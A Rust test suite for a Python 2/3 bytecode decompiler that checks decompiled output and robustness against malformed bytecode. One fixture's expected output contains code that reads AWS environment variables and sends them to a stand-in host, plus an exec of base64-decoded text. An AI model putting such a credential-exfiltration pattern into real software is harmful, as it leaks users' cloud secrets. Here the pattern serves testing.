//! Python 2 and 3.0 to 3.5, in instructions that are put together here, and one module that CPython 2.7 compiled.

use super::*;

/// `NAME`, `NAME 3` or `NAME @label`, and `label:`, each on its own or divided by `;`.
fn assembled(python: Python, text: &str) -> Vec<u8> {
    let relative = ["JUMP_FORWARD", "JUMP_IF_FALSE", "JUMP_IF_TRUE", "FOR_ITER"];
    let lines: Vec<&str> = text.split([';', '\n']).map(str::trim).filter(|l| !l.is_empty()).collect();
    let number = |line: &str| {
        let name = line.split(' ').next().unwrap();
        opcodes::number(python, name).unwrap_or_else(|| panic!("{python} has no {name}"))
    };
    let mut labels = std::collections::HashMap::new();
    let mut at = 0u16;
    for line in &lines {
        match line.strip_suffix(':') {
            Some(label) => drop(labels.insert(label, at)),
            None => at += if number(line) < 90 { 1 } else { 3 },
        }
    }
    let mut out = Vec::new();
    for line in lines.iter().filter(|l| !l.ends_with(':')) {
        let number = number(line);
        out.push(number);
        if number < 90 {
            continue;
        }
        let (name, argument) = line.split_once(' ').unwrap_or((line, "0"));
        let argument = match argument.strip_prefix('@') {
            Some(label) if relative.contains(&name) || name.starts_with("SETUP_") => {
                labels[label] - u16::try_from(out.len() + 2).unwrap()
            }
            Some(label) => labels[label],
            None => argument.parse().unwrap(),
        };
        out.extend(argument.to_le_bytes());
    }
    out
}

fn string(kind: u8, bytes: &[u8]) -> Vec<u8> {
    [&[kind][..], &u32::try_from(bytes.len()).unwrap().to_le_bytes(), bytes].concat()
}

fn t(text: &str) -> Vec<u8> {
    string(b't', text.as_bytes())
}

fn int(value: u32) -> Vec<u8> {
    [&b"i"[..], &value.to_le_bytes()].concat()
}

fn tuple(items: &[Vec<u8>]) -> Vec<u8> {
    [&b"("[..], &u32::try_from(items.len()).unwrap().to_le_bytes(), &items.concat()].concat()
}

const NONE: &[u8] = b"N";

struct Function<'a> {
    name: &'a str,
    arguments: u32,
    keyword_only: u32,
    flags: u32,
    locals: &'a str,
}

const MODULE: Function<'static> = Function { name: "<module>", arguments: 0, keyword_only: 0, flags: 0, locals: "" };

/// A marshalled code object.
fn code(python: Python, of: &Function<'_>, text: &str, constants: &[Vec<u8>], names: &str) -> Vec<u8> {
    let list = |names: &str| tuple(&names.split_whitespace().map(t).collect::<Vec<_>>());
    let mut out = b"c".to_vec();
    out.extend(of.arguments.to_le_bytes());
    if matches!(python, Python::Three(_)) {
        out.extend(of.keyword_only.to_le_bytes());
    }
    [0, 8, of.flags].iter().for_each(|n: &u32| out.extend(n.to_le_bytes()));
    out.extend(string(b's', &assembled(python, text)));
    out.extend(tuple(constants));
    [list(names), list(of.locals), tuple(&[]), tuple(&[]), t("m.py"), t(of.name)].iter().for_each(|o| out.extend(o));
    out.extend([1, 0, 0, 0]);
    out.extend(string(b's', b""));
    out
}

fn module(python: Python, text: &str, constants: &[Vec<u8>], names: &str) -> Vec<u8> {
    let mut out = python.header().unwrap();
    out.extend(code(python, &MODULE, text, constants, names));
    out
}

/// The listing, which must be whole.
fn listed(python: Python, instructions: &str, constants: &[Vec<u8>], names: &str) -> String {
    let bytes = module(python, instructions, constants, names);
    let seen = look(&bytes);
    assert_eq!((seen.result.clone(), seen.gaps.clone()), (Ok(()), vec![]), "{python}");
    let text = text(&bytes);
    let (_, rest) = text.split_once('\n').unwrap();
    rest.to_owned()
}

const TWO: [Python; 5] = [Python::Two(3), Python::Two(4), Python::Two(5), Python::Two(6), Python::Two(7)];

#[test]
fn a_module_that_2_7_compiled() {
    let [(_, bytes)] = compiled(include_str!("old.txt")).try_into().unwrap();
    let seen = look(&bytes);
    assert_eq!((seen.result.clone(), seen.gaps.clone()), (Ok(()), vec![]));
    let text = text(&bytes);
    for line in [
        "\n\"\"\"Doc.\"\"\"\nimport os\nimport base64\nfrom urllib2 import urlopen as get, Request\n",
        "\nclass Sender(object):\n    \"\"\"Sends.\"\"\"\n    limit = 3\n    def send(self, url, data='x', *rest, **more):\n",
        "\n        with open(url, 'rb') as f:\n            body = f.read()\n",
        "\n        for k, v in os.environ.items():\n            if k.startswith('AWS'):\n                if v:\n",
        " get('https://example.invalid/%s?v=%r' % (k, v), *rest, data=body, **more)\n",
        " print(k, file=rest[0])\n",
        " print(repr(v), file=rest[0])\n",
        "\n        body[1:] = body[:limit]\n        return [ord(x) ^ 3 for x in body if x]\nclass Old:\n    pass\n",
        "\ntry:\n    exec(base64.b64decode('cHJpbnQoMSk='))\nexcept (IOError, OSError) as e:\n    print('no', e)\nexcept:\n    raise ValueError('x')\nexec('a = 1', {}, globals())\nprint()\n",
    ] {
        assert!(text.contains(line), "{line}\n{text}");
    }
    assert!(!text.contains("__module__"), "{text}");
    survive(&Pyc, FileKind::Pyc, &bytes);
}

#[test]
fn what_python_2_executes_is_a_call() {
    for python in TWO {
        let constants = [NONE.to_vec(), string(b's', b"print 1"), string(b's', b"x\x9c\0\xff")];
        let text = listed(
            python,
            "LOAD_CONST 1; LOAD_CONST 0; DUP_TOP; EXEC_STMT
             LOAD_CONST 2; LOAD_NAME 0; DUP_TOP; EXEC_STMT
             LOAD_NAME 0; LOAD_NAME 1; LOAD_NAME 2; EXEC_STMT
             LOAD_NAME 0; LOAD_NAME 1; BUILD_TUPLE 2; LOAD_CONST 0; DUP_TOP; EXEC_STMT
             LOAD_CONST 0; RETURN_VALUE",
            &constants,
            "a b c",
        );
        assert_eq!(text, "exec('print 1')\nexec(b'x\\x9c\\x00\\xff', a)\nexec(a, b, c)\nexec(a, b)\n", "{python}");
    }
}

#[test]
fn what_python_2_prints_is_a_call() {
    for python in TWO {
        let text = listed(
            python,
            "LOAD_NAME 0; PRINT_ITEM; LOAD_NAME 1; PRINT_ITEM; PRINT_NEWLINE; PRINT_NEWLINE
             LOAD_NAME 2; DUP_TOP; LOAD_NAME 0; ROT_TWO; PRINT_ITEM_TO; PRINT_NEWLINE_TO
             LOAD_NAME 1; UNARY_CONVERT; PRINT_ITEM; LOAD_NAME 0; STORE_NAME 1; LOAD_NAME 0; PRINT_ITEM
             LOAD_NAME 2; PRINT_NEWLINE_TO",
            &[],
            "a b f",
        );
        assert_eq!(text, "print(a, b)\nprint()\nprint(a, file=f)\nprint(repr(b))\nb = a\nprint(a)\n", "{python}");
    }
}

#[test]
fn calls_have_names_beside_their_values() {
    let of = |python, call: &str| {
        let call = format!("LOAD_NAME 0; LOAD_NAME 1; {call}; POP_TOP");
        listed(python, &call, &[t("key"), t("not a name")], "f a b c")
    };
    for python in TWO.into_iter().chain((0..=5).map(Python::Three)) {
        assert_eq!(of(python, "CALL_FUNCTION 1"), "f(a)\n", "{python}");
        assert_eq!(of(python, "LOAD_CONST 0; LOAD_NAME 2; CALL_FUNCTION 257"), "f(a, key=b)\n", "{python}");
        assert_eq!(of(python, "CALL_FUNCTION_VAR 0"), "f(*a)\n", "{python}");
        assert_eq!(of(python, "LOAD_NAME 2; CALL_FUNCTION_VAR_KW 0"), "f(*a, **b)\n", "{python}");
        assert_eq!(of(python, "LOAD_NAME 2; CALL_FUNCTION_KW 1"), "f(a, **b)\n", "{python}");
        let (rest, named) = ("LOAD_NAME 2", "LOAD_CONST 0; LOAD_NAME 3");
        let (first, second) = if python == Python::Three(5) { (rest, named) } else { (named, rest) };
        let text = of(python, &format!("{first}; {second}; LOAD_NAME 1; CALL_FUNCTION_VAR_KW 257"));
        assert_eq!(text, "f(a, *b, key=c, **a)\n", "{python}");
        assert_eq!(
            of(python, "LOAD_CONST 1; LOAD_NAME 2; CALL_FUNCTION 257"),
            "f(a, **{'not a name': b})\n",
            "{python}"
        );
        // More than there is.
        assert_eq!(of(python, "CALL_FUNCTION 65535"), "...(**{f: a})\n", "{python}");
    }
}

#[test]
fn conditions_that_stay_on_the_stack() {
    let jumps = "LOAD_NAME 0; JUMP_IF_FALSE @else; POP_TOP; LOAD_NAME 1; CALL_FUNCTION 0; POP_TOP; JUMP_FORWARD @end
         else: ; POP_TOP; LOAD_NAME 2; JUMP_IF_TRUE @other; POP_TOP; LOAD_NAME 3; CALL_FUNCTION 0; POP_TOP
         JUMP_FORWARD @end; other: ; POP_TOP; end:
         LOAD_NAME 0; JUMP_IF_FALSE @value; POP_TOP; LOAD_NAME 1; value: ; STORE_NAME 2
         LOAD_NAME 0; JUMP_IF_TRUE @pop; POP_TOP; LOAD_NAME 3; CALL_FUNCTION 0; pop: ; POP_TOP
         LOAD_NAME 0; STORE_NAME 1";
    let wanted = "if a:\n    b()\nelif not c:\n    d()\nc = a or b\nif not a:\n    d()\nb = a\n";
    for python in [Python::Two(3), Python::Two(4), Python::Two(5), Python::Two(6), Python::Three(0)] {
        assert_eq!(listed(python, jumps, &[], "a b c d"), wanted, "{python}");
    }
    let jumps = "LOAD_NAME 0; POP_JUMP_IF_FALSE @else; LOAD_NAME 1; CALL_FUNCTION 0; POP_TOP; JUMP_FORWARD @end
         else: ; LOAD_NAME 2; POP_JUMP_IF_TRUE @end; LOAD_NAME 3; CALL_FUNCTION 0; POP_TOP; JUMP_FORWARD @end; end:
         LOAD_NAME 0; JUMP_IF_FALSE_OR_POP @value; LOAD_NAME 1; value: ; STORE_NAME 2";
    for python in std::iter::once(Python::Two(7)).chain((1..=5).map(Python::Three)) {
        let text = listed(python, jumps, &[], "a b c d");
        assert_eq!(text, "if a:\n    b()\nelif not c:\n    d()\nc = a or b\n", "{python}");
    }
}

#[test]
fn what_is_caught_is_told_from_what_comes_behind() {
    let catching = |jump: &str, pop: &str| {
        format!(
            "SETUP_EXCEPT @caught; LOAD_NAME 0; CALL_FUNCTION 0; POP_TOP; POP_BLOCK; JUMP_FORWARD @end
             caught: ; DUP_TOP; LOAD_NAME 1; COMPARE_OP 10; {jump} @next; {pop}; POP_TOP; STORE_NAME 2; POP_TOP
             LOAD_NAME 3; CALL_FUNCTION 0; POP_TOP; JUMP_FORWARD @end
             next: ; {pop}; POP_TOP; POP_TOP; POP_TOP; LOAD_NAME 4; RAISE_VARARGS 1; JUMP_FORWARD @end; END_FINALLY; end:
             SETUP_FINALLY @last; LOAD_NAME 3; CALL_FUNCTION 0; POP_TOP; POP_BLOCK; LOAD_CONST 0
             last: ; LOAD_NAME 0; CALL_FUNCTION 0; POP_TOP; END_FINALLY; LOAD_NAME 1; STORE_NAME 0"
        )
    };
    let wanted =
        "try:\n    a()\nexcept b as e:\n    c()\nexcept:\n    raise d\ntry:\n    c()\nfinally:\n    pass\na()\na = b\n";
    for (python, jump, pop) in [
        (Python::Two(4), "JUMP_IF_FALSE", "POP_TOP"),
        (Python::Two(6), "JUMP_IF_FALSE", "POP_TOP"),
        (Python::Two(7), "POP_JUMP_IF_FALSE", ""),
    ] {
        let text = listed(python, &catching(jump, pop), &[NONE.to_vec()], "a b e c d");
        assert_eq!(text, wanted, "{python}");
    }
    let three = "SETUP_EXCEPT @caught; LOAD_NAME 0; CALL_FUNCTION 0; POP_TOP; POP_BLOCK; JUMP_FORWARD @end
         caught: ; DUP_TOP; LOAD_NAME 1; COMPARE_OP 10; POP_JUMP_IF_FALSE @next; POP_TOP; POP_TOP; POP_TOP
         LOAD_NAME 3; CALL_FUNCTION 0; POP_TOP; POP_EXCEPT; JUMP_FORWARD @end
         next: ; POP_TOP; POP_TOP; POP_TOP; LOAD_NAME 4; LOAD_NAME 2; RAISE_VARARGS 2; POP_EXCEPT; JUMP_FORWARD @end
         END_FINALLY; end: ; LOAD_NAME 1; STORE_NAME 0";
    for python in (1..=5).map(Python::Three) {
        let text = listed(python, three, &[], "a b e c d");
        assert_eq!(text, "try:\n    a()\nexcept b:\n    c()\nexcept:\n    raise d from e\na = b\n", "{python}");
    }
}

#[test]
fn functions_and_classes_of_python_2() {
    for python in TWO {
        let method = Function { name: "f", arguments: 2, keyword_only: 0, flags: 4, locals: "self x rest" };
        let method = code(python, &method, "LOAD_FAST 1; RETURN_VALUE", &[string(b's', b"Says.")], "");
        let body = Function { name: "C", ..MODULE };
        let body = code(
            python,
            &body,
            "LOAD_NAME 0; STORE_NAME 1; LOAD_NAME 3; CALL_FUNCTION 0; LOAD_CONST 0; MAKE_FUNCTION 1; STORE_NAME 2
             LOAD_LOCALS; RETURN_VALUE",
            &[method],
            "__name__ __module__ f made",
        );
        let text = listed(
            python,
            "LOAD_NAME 2; LOAD_CONST 0; LOAD_NAME 0; LOAD_NAME 3; LOAD_ATTR 4; BUILD_TUPLE 2; LOAD_CONST 1; MAKE_FUNCTION 0
             CALL_FUNCTION 0; BUILD_CLASS; CALL_FUNCTION 1; STORE_NAME 1; LOAD_CONST 2; RETURN_VALUE",
            &[t("C"), body, NONE.to_vec()],
            "Base C mark m Other",
        );
        let wanted = "@mark\nclass C(Base, m.Other):\n    def f(self, x=made(), *rest):\n        \"\"\"Says.\"\"\"\n        return x\n";
        assert_eq!(text, wanted, "{python}");
    }
}

#[test]
fn functions_of_python_3() {
    for minor in 0..=5 {
        let python = Python::Three(minor);
        let inner = Function { name: "f", arguments: 2, keyword_only: 1, flags: 0, locals: "a b c" };
        let inner = code(python, &inner, "LOAD_FAST 1; RETURN_VALUE", &[NONE.to_vec()], "");
        let name = if minor >= 3 { "LOAD_CONST 1" } else { "NOP" };
        // One default, one of `c`, and an annotation with the tuple of its name.
        for defaults in ["LOAD_NAME 0; LOAD_CONST 2; LOAD_NAME 1", "LOAD_CONST 2; LOAD_NAME 1; LOAD_NAME 0"] {
            let text = listed(
                python,
                &format!(
                    "{defaults}; LOAD_NAME 2; LOAD_CONST 3; LOAD_CONST 0; {name}; EXTENDED_ARG 2; MAKE_FUNCTION 257
                     STORE_NAME 3; LOAD_NAME 0; BUILD_TUPLE 1; LOAD_CONST 0; {name}; MAKE_CLOSURE 0; LOAD_NAME 2
                     CALL_FUNCTION 1; POP_TOP"
                ),
                &[inner.clone(), t("f"), t("c"), tuple(&[t("a")])],
                "one two three f",
            );
            assert_eq!(text, "def f(a, b=one, *, c):\n    return b\nf(three)\n", "{python}");
        }
    }
}

#[test]
fn slices_raises_imports_and_divisions_of_python_2() {
    for python in TWO {
        let minor = if let Python::Two(minor) = python { minor } else { 0 };
        let level = if minor >= 5 { "LOAD_CONST 2" } else { "" };
        let text = listed(
            python,
            &format!(
                "{level}; LOAD_CONST 0; IMPORT_NAME 0; STORE_NAME 0; {level}; LOAD_CONST 1; IMPORT_NAME 1
                 IMPORT_FROM 2; STORE_NAME 3; POP_TOP
                 LOAD_NAME 0; SLICE_0; STORE_NAME 3; LOAD_NAME 0; LOAD_NAME 2; SLICE_1; STORE_NAME 3
                 LOAD_NAME 0; LOAD_NAME 2; SLICE_2; STORE_NAME 3; LOAD_NAME 0; LOAD_NAME 2; LOAD_NAME 3; SLICE_3; STORE_NAME 3
                 LOAD_NAME 2; LOAD_NAME 0; STORE_SLICE_0; LOAD_NAME 0; LOAD_NAME 2; DELETE_SLICE_2
                 LOAD_NAME 0; LOAD_NAME 2; BINARY_DIVIDE; LOAD_NAME 3; INPLACE_DIVIDE; STORE_NAME 3
                 LOAD_NAME 0; LOAD_NAME 2; LOAD_NAME 1; DUP_TOPX 2; BINARY_ADD; STORE_NAME 3; POP_TOP; POP_TOP; POP_TOP
                 LOAD_NAME 0; LOAD_NAME 2; LOAD_NAME 1; CALL_FUNCTION 0; RAISE_VARARGS 3"
            ),
            &[NONE.to_vec(), tuple(&[t("a")]), int(u32::MAX)],
            "os m a b",
        );
        let wanted = "import os\nfrom m import a as b\nb = os[:]\nb = os[a:]\nb = os[:a]\nb = os[a:b]\nos[:] = a\n\
            del os[:a]\nb /= b\nb = a + m\nm()\nraise os(a)\n";
        assert_eq!(text, wanted, "{python}");
    }
}

#[test]
fn comprehensions_run_where_they_stand() {
    // [x + x for x in a if b(x)], with the list in a variable of the compiler.
    let hidden = |jump: &str, pop: &str| {
        format!(
            "LOAD_NAME 0; BUILD_LIST 0; DUP_TOP; STORE_NAME 3; LOAD_NAME 1; GET_ITER; loop: ; FOR_ITER @end; STORE_NAME 2
             LOAD_NAME 4; LOAD_NAME 2; CALL_FUNCTION 1; {jump} @next; {pop}; LOAD_NAME 3; LOAD_NAME 2; LOAD_NAME 2
             BINARY_ADD; LIST_APPEND; JUMP_ABSOLUTE @loop; next: ; {pop}; JUMP_ABSOLUTE @loop; end: ; DELETE_NAME 3
             CALL_FUNCTION 1; POP_TOP; LOAD_NAME 0; STORE_NAME 1"
        )
    };
    for python in [Python::Two(4), Python::Two(5), Python::Two(6)] {
        let text = listed(python, &hidden("JUMP_IF_FALSE", "POP_TOP"), &[], "exec a x _[1] b");
        assert_eq!(text, "exec_([x + x for x in a if b(x)])\na = exec_\n".replace("exec_", "exec"), "{python}");
    }
    let text = listed(
        Python::Two(7),
        "LOAD_NAME 0; BUILD_LIST 0; LOAD_NAME 1; GET_ITER; loop: ; FOR_ITER @end; STORE_NAME 2
         LOAD_NAME 4; LOAD_NAME 2; CALL_FUNCTION 1; POP_JUMP_IF_FALSE @loop; LOAD_NAME 2; GET_ITER; inner: ; FOR_ITER @next
         STORE_NAME 3; LOAD_NAME 3; LIST_APPEND 3; JUMP_ABSOLUTE @inner; next: ; JUMP_ABSOLUTE @loop; end: ; CALL_FUNCTION 1; POP_TOP
         LOAD_NAME 0; STORE_NAME 1",
        &[],
        "f a x y b",
    );
    assert_eq!(text, "f([y for x in a if b(x) for y in x])\na = f\n");
    // A statement among the clauses: a loop, as it stands.
    let text = listed(
        Python::Two(7),
        "BUILD_LIST 0; LOAD_NAME 0; GET_ITER; loop: ; FOR_ITER @end; STORE_NAME 1; LOAD_NAME 1; STORE_NAME 2
         LOAD_NAME 2; LIST_APPEND 2; JUMP_ABSOLUTE @loop; end: ; STORE_NAME 3",
        &[],
        "a x y b",
    );
    assert_eq!(text, "for x in a:\n    y = x\nb = [y]\n");
}

#[test]
fn dicts_are_filled_pair_by_pair() {
    let fill = [
        (Python::Two(4), "BUILD_MAP 0; DUP_TOP; LOAD_NAME 0; ROT_TWO; LOAD_CONST 0; STORE_SUBSCR"),
        (Python::Two(6), "BUILD_MAP 1; LOAD_NAME 0; LOAD_CONST 0; STORE_MAP"),
        (Python::Two(7), "BUILD_MAP 1; LOAD_NAME 0; LOAD_CONST 0; STORE_MAP"),
        (Python::Three(4), "BUILD_MAP 1; LOAD_NAME 0; LOAD_CONST 0; STORE_MAP"),
        (Python::Three(5), "LOAD_CONST 0; LOAD_NAME 0; BUILD_MAP 1"),
    ];
    for (python, fill) in fill {
        let text = listed(python, &format!("{fill}; STORE_NAME 1"), &[t("k")], "a b");
        assert_eq!(text, "b = {'k': a}\n", "{python}");
    }
}

#[test]
fn what_is_entered_and_left() {
    let kept = "LOAD_NAME 0; CALL_FUNCTION 0; DUP_TOP; LOAD_ATTR 1; STORE_NAME 2; LOAD_ATTR 3; CALL_FUNCTION 0
         STORE_NAME 4; SETUP_FINALLY @left; LOAD_NAME 4; DELETE_NAME 4; STORE_NAME 5; LOAD_NAME 5; CALL_FUNCTION 0; POP_TOP
         POP_BLOCK; LOAD_CONST 0; left: ; LOAD_NAME 2; DELETE_NAME 2; WITH_CLEANUP; END_FINALLY; LOAD_NAME 0; STORE_NAME 5";
    let rotated = "LOAD_NAME 0; CALL_FUNCTION 0; DUP_TOP; LOAD_ATTR 1; ROT_TWO; LOAD_ATTR 3; CALL_FUNCTION 0; POP_TOP
         SETUP_FINALLY @left; LOAD_NAME 5; CALL_FUNCTION 0; POP_TOP; POP_BLOCK; LOAD_CONST 0; left: ; WITH_CLEANUP
         END_FINALLY; LOAD_NAME 0; STORE_NAME 5";
    let set = "LOAD_NAME 0; CALL_FUNCTION 0; SETUP_WITH @left; STORE_NAME 5; LOAD_NAME 5; CALL_FUNCTION 0; POP_TOP
         POP_BLOCK; LOAD_CONST 0; left: ; WITH_CLEANUP; END_FINALLY; LOAD_NAME 0; STORE_NAME 5";
    for (python, instructions, name) in [
        (Python::Two(5), kept, " as x"),
        (Python::Two(6), rotated, ""),
        (Python::Three(1), rotated, ""),
        (Python::Two(7), set, " as x"),
        (Python::Three(3), set, " as x"),
    ] {
        let text = listed(python, instructions, &[NONE.to_vec()], "a __exit__ _[1] __enter__ _[2] x");
        assert_eq!(text, format!("with a(){name}:\n    x()\nx = a\n"), "{python}");
    }
}

#[test]
fn generators_of_each_age() {
    let of = |python, instructions: &str| {
        let generator = Function { name: "g", flags: 0x20, arguments: 1, locals: "x", ..MODULE };
        let generator = code(python, &generator, instructions, &[NONE.to_vec()], "");
        let function = if python.minor_of_three() >= 3 { "LOAD_CONST 1; MAKE_FUNCTION 0" } else { "MAKE_FUNCTION 0" };
        listed(python, &format!("LOAD_CONST 0; {function}; STORE_NAME 0"), &[generator, t("g")], "g")
    };
    let ends = "LOAD_CONST 0; RETURN_VALUE";
    assert_eq!(of(Python::Two(4), &format!("LOAD_FAST 0; YIELD_VALUE; {ends}")), "def g(x):\n    (yield x)\n");
    let text = of(Python::Two(5), &format!("LOAD_FAST 0; YIELD_VALUE; STORE_FAST 0; {ends}"));
    assert_eq!(text, "def g(x):\n    x = (yield x)\n");
    for (minor, first) in [(3, "GET_ITER"), (4, "GET_ITER"), (5, "GET_YIELD_FROM_ITER")] {
        let text =
            of(Python::Three(minor), &format!("LOAD_FAST 0; {first}; LOAD_CONST 0; YIELD_FROM; STORE_FAST 0; {ends}"));
        assert_eq!(text, "def g(x):\n    x = (yield from x)\n", "3.{minor}");
    }
}

#[test]
fn arguments_of_more_than_two_bytes_and_of_none() {
    // A name whose number takes an EXTENDED_ARG; what the code ends in has no argument any more.
    let names: String = (0..65_540).map(|n| format!("n{n} ")).collect();
    for python in [Python::Two(6), Python::Two(7), Python::Three(1), Python::Three(5)] {
        let text = listed(python, "EXTENDED_ARG 1; LOAD_NAME 2; STORE_NAME 3", &[], &names);
        assert_eq!(text, "n3 = n65538\n", "{python}");
        let mut bytes = module(python, "LOAD_NAME 0; STORE_NAME 1; LOAD_NAME 0", &[], "a b");
        let at = bytes.windows(4).position(|w| w == [9, 0, 0, 0]).unwrap();
        bytes[at] = 8;
        bytes.remove(at + 4 + 8);
        assert!(text_of(&bytes).ends_with("\nb = a\n"));
    }
}

fn text_of(bytes: &[u8]) -> String {
    super::text(bytes)
}

#[test]
fn old_instructions_that_are_none_leave_a_gap() {
    for (python, number) in
        [(Python::Two(7), 18u8), (Python::Three(4), 85), (Python::Three(5), 155), (Python::Two(4), 94)]
    {
        let mut bytes = module(python, "NOP; LOAD_NAME 0; POP_TOP", &[], "exec");
        let at = bytes.windows(4).position(|w| w == [9, 101, 0, 0]).unwrap();
        bytes[at] = number;
        let seen = look(&bytes);
        assert!(seen.broken().detail.contains(&format!("{python} has no instruction {number}")), "{}", seen.broken());
        assert!(String::from_utf8_lossy(seen.content("m.py")).contains("exec"));
    }
}

#[test]
fn hostile_code_of_old_versions_ends() {
    let everything = "SETUP_FINALLY @end; LOAD_NAME 0; BUILD_LIST 0; LOAD_NAME 0; FOR_ITER @end; STORE_NAME 1
         LOAD_NAME 1; BUILD_CLASS; DUP_TOPX 60000; CALL_FUNCTION_VAR_KW 771; MAKE_CLOSURE 9; EXEC_STMT; PRINT_ITEM
         PRINT_ITEM_TO; PRINT_NEWLINE_TO; STORE_SLICE_3; DELETE_SLICE_3; RAISE_VARARGS 9; WITH_CLEANUP; end: ; END_FINALLY
         END_FINALLY; BUILD_MAP 60000; STORE_NAME 1";
    survive(&Pyc, FileKind::Pyc, &module(Python::Two(7), everything, &[NONE.to_vec()], "a b"));
    let everything = "SETUP_EXCEPT @end; BUILD_LIST 0; LOAD_NAME 0; FOR_ITER @end; DUP_TOP; UNPACK_EX 515
         CALL_FUNCTION_VAR 771; EXTENDED_ARG 2; MAKE_FUNCTION 771; MAKE_CLOSURE 771; POP_EXCEPT; end: ; END_FINALLY
         EXTENDED_ARG 65535; EXTENDED_ARG 65535; JUMP_FORWARD 65535; RAISE_VARARGS 3";
    for minor in [0, 5] {
        survive(&Pyc, FileKind::Pyc, &module(Python::Three(minor), everything, &[NONE.to_vec()], "a b"));
    }
    // Numbers as large as they get.
    let much = "LOAD_NAME 0; DUP_TOPX 60000; UNPACK_SEQUENCE 65535; CALL_FUNCTION_VAR_KW 65535; EXTENDED_ARG 65535
         MAKE_FUNCTION 65535; UNPACK_SEQUENCE 65535; MAKE_CLOSURE 65535; EXTENDED_ARG 65535; JUMP_ABSOLUTE 65535";
    for python in TWO.into_iter().chain((0..=1).map(Python::Three)) {
        let seen = look(&module(python, much, &[], "a"));
        assert!(seen.content("m.py").len() < 1 << 16, "{python}");
    }
    // A dict that holds itself.
    let own = module(Python::Two(7), "BUILD_MAP 0; DUP_TOP; DUP_TOP; DUP_TOP; STORE_SUBSCR; STORE_NAME 0", &[], "a");
    let seen = look(&own);
    assert_eq!(seen.broken().reason, GapReason::Limit);
    assert!(seen.content("m.py").len() < 1 << 20);
    // Many loops over empty lists of which none is a comprehension, then many values for them.
    let mut loops = "BUILD_LIST 0; LOAD_NAME 0; FOR_ITER 0; ".repeat(3000);
    loops.push_str(&"LOAD_NAME 0; LIST_APPEND 9; ".repeat(3000));
    assert!(listed(Python::Two(7), &loops, &[], "a").len() < 1 << 20);
}
